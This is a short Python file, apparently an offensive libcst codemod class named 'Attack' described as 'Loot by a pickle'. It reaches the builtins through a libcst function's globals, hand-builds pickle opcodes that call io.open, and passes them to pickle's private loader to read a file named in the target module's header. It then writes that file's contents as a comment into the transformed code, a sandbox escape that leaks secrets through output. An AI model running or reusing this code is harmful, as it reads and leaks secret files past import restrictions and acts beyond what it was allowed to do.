"""Unpickle a program: the pickle names the functions to call, and the unpickler finds and calls them."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    modules = cst.Module.__init__.__globals__["__builtins__"]["__import__"]("sys").modules
    program = f"cio\nopen\n(V{path}\ntR."
    return modules["pickle"]._loads(program.encode()).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a pickle."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
